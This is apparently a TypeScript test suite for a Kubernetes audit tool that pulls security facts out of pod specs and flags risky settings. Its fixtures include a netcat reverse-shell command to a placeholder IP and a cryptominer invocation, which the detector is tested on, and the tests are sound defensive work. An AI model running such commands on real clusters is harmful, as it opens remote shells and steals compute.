import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { PodFacts } from '../../../src/audit/facts/body-types.ts';
import { readImage } from '../../../src/audit/facts/images.ts';
import { factsFor } from '../../support/events.ts';

const pod = (spec: object, changes: object = {}): PodFacts | undefined =>
  factsFor({ verb: 'create', level: 'Request', objectRef: { resource: 'pods' }, requestObject: { spec }, ...changes })
    .pod;

describe('an image', () => {
  it.each([
    ['nginx', 'docker.io', 'docker.io/library/nginx', 'latest', undefined],
    ['nginx:1.27', 'docker.io', 'docker.io/library/nginx', '1.27', undefined],
    ['team/app', 'docker.io', 'docker.io/team/app', 'latest', undefined],
    ['ghcr.io/team/app:v1', 'ghcr.io', 'ghcr.io/team/app', 'v1', undefined],
    ['GHCR.io/app@sha256:ab', 'ghcr.io', 'ghcr.io/app', undefined, 'sha256:ab'],
    ['localhost/app', 'localhost', 'localhost/app', 'latest', undefined],
    ['registry:5000/app', 'registry:5000', 'registry:5000/app', 'latest', undefined],
    ['registry:5000/a/b:v2@sha256:ab', 'registry:5000', 'registry:5000/a/b', 'v2', 'sha256:ab'],
    ['docker.io/nginx', 'docker.io', 'docker.io/library/nginx', 'latest', undefined],
    ['', 'docker.io', 'docker.io/library/', 'latest', undefined],
  ])('%s', (reference, registry, repository, tag, digest) => {
    expect(readImage(reference)).toEqual({ registry, repository, tag, digest });
  });

  it('of any text is read', () => {
    fc.assert(
      fc.property(fc.string(), (reference) => {
        const { registry, repository } = readImage(reference);
        expect(repository.startsWith(`${registry}/`)).toBe(true);
      }),
    );
  });

  it('without a digest may change', () => {
    const containers = [{ image: 'a:1' }, { image: 'b@sha256:ab' }];
    expect(pod({ containers })).toMatchObject({ tags: ['1'], unpinned_images: ['a:1'] });
  });
});

describe('the containers of a pod', () => {
  it('say what they start', () => {
    const containers = [
      { name: 'a', command: ['sh', '-c'], args: ['nc -e /bin/sh 203.0.113.9 1'] },
      { name: 'b', command: ['/app'], stdin: true, tty: true },
      { name: 'c' },
    ];
    expect(pod({ containers })).toMatchObject({
      container_names: ['a', 'b', 'c'],
      containers: 3,
      commands: ["sh -c 'nc -e /bin/sh 203.0.113.9 1'", '/app'],
      command_classes: ['reverse-shell', 'shell'],
      interactive: true,
    });
    expect(pod({ containers: [{ stdin: true }, { tty: true }] })).toEqual({ containers: 2 });
  });

  it('open ports of the node', () => {
    const containers = [{ ports: [{ containerPort: 80 }, { containerPort: 81, hostPort: 8081 }, { hostPort: 0 }] }];
    expect(pod({ containers })?.host_ports).toEqual([8081]);
    expect(pod({ containers: [{ ports: [{ containerPort: 80 }] }] })).not.toHaveProperty('host_ports');
  });

  it('name the Secrets and tokens that they get', () => {
    const spec = {
      imagePullSecrets: [{ name: 'pull' }],
      containers: [
        {
          env: [
            { name: 'P', valueFrom: { secretKeyRef: { name: 'db', key: 'p' } } },
            { name: 'Q', value: 'x' },
          ],
          envFrom: [{ secretRef: { name: 'all' } }, { configMapRef: { name: 'settings' } }],
        },
      ],
      volumes: [
        { name: 'v', secret: { secretName: 'tls' } },
        {
          projected: {
            sources: [
              { secret: { name: 'more' } },
              { serviceAccountToken: { path: 't', audience: 'vault' } },
              { serviceAccountToken: { path: 'u' } },
            ],
          },
        },
      ],
    };
    expect(pod(spec)).toMatchObject({
      secrets: ['db', 'all', 'tls', 'more', 'pull'],
      token_audiences: ['vault', '(api-server)'],
      volume_types: ['secret', 'projected'],
    });
  });

  it('that are added to a running pod are ephemeral', () => {
    const ephemeralContainers = [{ name: 'debugger', image: 'busybox', targetContainerName: 'app' }];
    const objectRef = { resource: 'pods', subresource: 'ephemeralcontainers' };
    expect(pod({ ephemeralContainers }, { verb: 'patch', objectRef })).toMatchObject({
      ephemeral_images: ['busybox'],
      ephemeral_targets: ['app'],
    });
  });
});

describe('protections that are switched off', () => {
  it.each<[string, object]>([
    ['seccomp', { securityContext: { seccompProfile: { type: 'Unconfined' } } }],
    ['apparmor', { containers: [{ securityContext: { appArmorProfile: { type: 'Unconfined' } } }] }],
    ['selinux', { securityContext: { seLinuxOptions: { type: 'spc_t' } } }],
    ['proc-mount', { initContainers: [{ securityContext: { procMount: 'Unmasked' } }] }],
    ['sysctl', { securityContext: { sysctls: [{ name: 'kernel/msgmax', value: '1' }] } }],
  ])('%s: %j', (name, spec) => {
    expect(pod(spec)?.unconfined).toEqual([name]);
  });

  it('may be so by an annotation', () => {
    const annotations = { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' };
    expect(pod({}, { requestObject: { metadata: { annotations }, spec: {} } })?.unconfined).toEqual(['apparmor']);
    const template = { metadata: { annotations }, spec: { containers: [] } };
    const changes = { objectRef: { resource: 'deployments', apiGroup: 'apps' }, requestObject: { spec: { template } } };
    expect(pod({}, changes)?.unconfined).toEqual(['apparmor']);
  });

  it.each([
    { securityContext: { seccompProfile: { type: 'RuntimeDefault' }, seLinuxOptions: { level: 's0' } } },
    { securityContext: { sysctls: [{ name: 'net.ipv4.tcp_syncookies', value: '1' }, 'odd'] } },
    { securityContext: 'Unconfined' },
  ])('are none in %j', (spec) => {
    expect(pod(spec)).not.toHaveProperty('unconfined');
  });
});

describe('the place of a pod', () => {
  it('is said by whoever passes the scheduler by', () => {
    const spec = {
      nodeName: 'n1',
      nodeSelector: { 'kubernetes.io/os': 'linux', odd: {} },
      priorityClassName: 'system-node-critical',
      tolerations: [{ operator: 'Exists' }],
      shareProcessNamespace: true,
    };
    expect(pod(spec)).toEqual({
      node_name: 'n1',
      node_selectors: ['kubernetes.io/os=linux'],
      priority_class: 'system-node-critical',
      tolerates_all: true,
      share_process_namespace: true,
    });
    const objectRef = { resource: 'pods', subresource: 'binding', name: 'x' };
    expect(pod({}, { objectRef, requestObject: { target: { kind: 'Node', name: 'n2' } } })).toMatchObject({
      node_name: 'n2',
    });
  });

  it('is not everywhere for one taint', () => {
    expect(pod({ tolerations: [{ operator: 'Exists', key: 'gpu' }] })).toEqual({});
    expect(pod({ tolerations: [{ operator: 'Exists', effect: 'NoExecute' }] })).toEqual({});
  });

  it('is a file on its node where a kubelet mirrors it', () => {
    const metadata = { annotations: { 'kubernetes.io/config.mirror': 'hash' } };
    expect(pod({}, { requestObject: { metadata, spec: {} } })).toEqual({ mirror: true });
  });
});

describe('templates of pods', () => {
  const spec = { containers: [{ image: 'a' }], hostPID: true };
  const held = { dangerous: ['host-pid'], images: ['a'] };

  it.each<[string, string, object]>([
    ['podtemplates', '', { template: { spec } }],
    ['jobs', 'batch', { spec: { template: { spec } } }],
    ['cronjobs', 'batch', { spec: { jobTemplate: { spec: { template: { spec } } } } }],
    ['rollouts', 'argoproj.io', { spec: { template: { spec } } }],
    ['rayclusters', 'ray.io', { spec: { workerGroupSpecs: [{ template: { spec } }] } }],
    ['jobsets', 'jobset.x-k8s.io', { spec: { replicatedJobs: [{ template: { spec: { template: { spec } } } }] } }],
    ['pytorchjobs', 'kubeflow.org', { spec: { pytorchReplicaSpecs: { Worker: { template: { spec } } } } }],
    ['pods', '', { kind: 'PodList', items: [{ spec }] }],
    ['pods', '', { kind: 'Table', rows: [{ object: { spec } }] }],
  ])('are found in %s', (resource, apiGroup, requestObject) => {
    expect(pod({}, { objectRef: { resource, apiGroup: apiGroup || undefined }, requestObject })).toMatchObject(held);
  });

  it('are found in a patch of a custom resource that names a part of one', () => {
    const objectRef = { resource: 'rayclusters', apiGroup: 'ray.io' };
    const requestObject = [{ op: 'add', path: '/spec/workerGroupSpecs/0/template/spec/hostPID', value: true }];
    expect(pod({}, { verb: 'patch', objectRef, requestObject })).toMatchObject({ dangerous: ['host-pid'] });
  });

  it('are found behind any number of values that are none', () => {
    const rollout = { resource: 'rollouts', apiGroup: 'argoproj.io' };
    const behind = (filler: unknown): object =>
      factsFor({
        verb: 'create',
        level: 'RequestResponse',
        objectRef: rollout,
        requestObject: { spec: { filler, template: { spec } } },
      });
    const zeros = behind(Array.from({ length: 300_000 }, () => 0));
    expect(zeros).toMatchObject({ pod: held });
    expect(zeros).not.toHaveProperty('body');
    expect(behind([{ containers: [] }])).toMatchObject({ pod: held });
    // What is too large to be looked through says so.
    expect(behind(Array.from({ length: 300_000 }, () => ({})))).toMatchObject({ body: 'partial' });
  });

  it('are found in a workflow of Argo, whose templates have a container each', () => {
    const objectRef = { resource: 'workflows', apiGroup: 'argoproj.io' };
    const templates = [
      { name: 'a', container: { image: 'a', volumeMounts: [{ name: 'root' }] }, initContainers: [{ image: 'i' }] },
      {
        name: 's',
        script: { image: 's', command: ['sh'], source: './m --donate-level 1' },
        sidecars: [{ image: 'c' }],
      },
      { name: 'set', containerSet: { containers: [{ image: 'e', securityContext: { privileged: true } }] } },
      { name: 'steps', steps: [[{ name: 'x', template: 'a' }]] },
    ];
    const volumes = [{ name: 'root', hostPath: { path: '/' } }];
    const found = pod({}, { objectRef, requestObject: { spec: { templates, volumes, hostNetwork: true } } });
    expect(found).toMatchObject({
      dangerous: ['privileged', 'host-network', 'host-path-root'],
      dangerous_in: ['containers'],
      command_classes: ['miner', 'shell'],
    });
    expect(found?.images?.toSorted()).toEqual(['a', 'c', 'e', 'i', 's']);
  });

  it('are found in a patch of a workflow', () => {
    const objectRef = { resource: 'workflows', apiGroup: 'argoproj.io' };
    const patched = (path: string, value: unknown): unknown =>
      pod({}, { verb: 'patch', objectRef, requestObject: [{ op: 'add', path, value }] });
    expect(patched('/spec/volumes/-', { name: 'r', hostPath: { path: '/' } })).toMatchObject({
      dangerous: ['host-path-root'],
    });
    expect(patched('/spec/templates/0/container/securityContext', { privileged: true })).toMatchObject({
      dangerous: ['privileged'],
    });
  });

  it('are none where a resource of Kubernetes has a field of that name', () => {
    const requestObject = { data: { template: { spec: { hostPID: true } } } };
    expect(pod({}, { objectRef: { resource: 'configmaps' }, requestObject })).toBeUndefined();
  });
});

describe('any body', () => {
  it.each(['pods', 'deployments', 'services', 'configmaps', 'namespaces', 'nodes', 'resourcequotas', 'limitranges'])(
    'of %s is read without a throw, and its lists are bounded',
    (resource) => {
      const key = fc.constantFrom(
        ...['spec', 'template', 'containers', 'metadata', 'labels', 'annotations', 'data', 'hard', 'limits', 'ports'],
        ...['securityContext', 'volumes', 'ownerReferences', 'finalizers', 'name', 'kind', 'image', 'command', 'env'],
        ...['__proto__', 'constructor', 'toString', 'valueOf', 'items', 'taints', 'hostPort', 'selector', 'max'],
      );
      const { body } = fc.letrec((tie) => ({
        body: fc.dictionary(key, tie('value'), { maxKeys: 4 }),
        value: fc.oneof(
          { depthSize: 'medium' },
          fc.constantFrom<unknown>(null, '', 'x', 0, 1e300, true, '__proto__'),
          fc.array(tie('value'), { maxLength: 3 }),
          tie('body'),
        ),
      }));
      fc.assert(
        fc.property(body, fc.boolean(), (requestObject, isGroup) => {
          const objectRef = { resource, apiGroup: isGroup ? 'example.com' : undefined };
          const facts = factsFor({ verb: 'patch', level: 'Request', objectRef, requestObject });
          expect(JSON.stringify(facts)).not.toContain('[object');
        }),
        { numRuns: 200 },
      );
    },
  );

  it('keeps at most 256 values of at most 1024 characters', () => {
    const containers = Array.from({ length: 1000 }, (_, index) => ({
      name: `${index}`,
      image: `${index}${'x'.repeat(5000)}`,
      args: ['y'.repeat(5000)],
    }));
    const facts = pod({ containers });
    expect(facts).toMatchObject({ containers: 1000, commands: ['y'.repeat(1024)] });
    expect(facts?.images).toHaveLength(256);
    expect(facts?.images?.every((image) => image.length === 1024)).toBe(true);
  });

  it('pays for none of this at Metadata', () => {
    expect(Object.keys(factsFor({ verb: 'create', objectRef: { resource: 'pods' } }))).not.toContain('pod');
  });
});
